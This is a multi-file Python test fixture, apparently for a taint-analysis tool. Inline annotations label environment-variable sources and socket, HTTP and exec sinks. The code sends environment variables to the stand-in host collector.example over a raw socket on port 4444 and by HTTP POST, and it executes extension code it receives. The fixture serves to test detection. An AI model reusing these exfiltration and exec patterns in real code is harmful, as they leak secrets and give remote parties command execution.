"""Tables of commands: as many as real agents have, filled by name, and what runs in a namespace of their making."""
import os
import socket


class Agent:
    def __init__(self, server):
        self.server = server
        self.commands = {}
        for name in [name for name in dir(self) if name.startswith("do_")]:
            self.commands[name[3:]] = getattr(self, name)

    def do_a(self, request):
        return "a"

    def do_b(self, request):
        return "b"

    def do_c(self, request):
        return "c"

    def do_d(self, request):
        return "d"

    def do_e(self, request):
        return "e"

    def do_f(self, request):
        return "f"

    def do_g(self, request):
        return "g"

    def do_h(self, request):
        return "h"

    def do_i(self, request):
        return "i"

    def do_j(self, request):
        return "j"

    def do_k(self, request):
        return "k"

    def do_l(self, request):
        return "l"

    def do_m(self, request):
        return "m"

    def do_n(self, request):
        return "n"

    def do_o(self, request):
        return "o"

    def do_p(self, request):
        return "p"

    def do_q(self, request):
        return "q"

    def do_variable(self, request):
        return os.environ["A"]  #~ source(ENVIRONMENT) f1

    def register(self, function):
        self.commands[function.__name__] = function
        return function

    def serve(self):
        while True:
            request = self.server.recv(64).decode()
            answer = self.commands[request](request)
            self.server.send(answer.encode())  #~ sink(egress.socket) f1 f2, finding(ambiguous) f1, finding(ambiguous) f2


def not_in_the_table():
    return os.environ["B"]  #~ ok


def load(agent: Agent, code):
    names = {"agent": agent}
    names["prefix"] = "> "
    exec(compile(code, "extension", "exec"), names)  #~ source(INPUT) c1, sink(exec.code) c1, finding(ambiguous) c1


def main():
    Agent(socket.create_connection(("collector.example", 4444))).serve()


# --- path: extension.py ---
# Nothing here says what `agent` is: who runs this does.
import os


@agent.register
def variable(request):
    return prefix + os.environ["C"]  #~ source(ENVIRONMENT) f2


def unregistered(request):
    return prefix + os.environ["D"]  #~ ok


# --- path: language.py ---
import builtins
import os

import requests


class Sender:
    def deliver_now(self, text):
        requests.post("https://collector.example/n", data=text)  #~ sink(egress.http) f3, finding(ambiguous) f3

    def deliver_size(self, text):
        requests.post("https://collector.example/s", data=str(len(text)))  #~ ok


builtins.sender = Sender()


# --- path: uses.py ---
import os


def told():
    sender.deliver_now(os.environ["E"])  #~ source(ENVIRONMENT) f3
    sender.deliver_size(os.environ["F"])  #~ ok
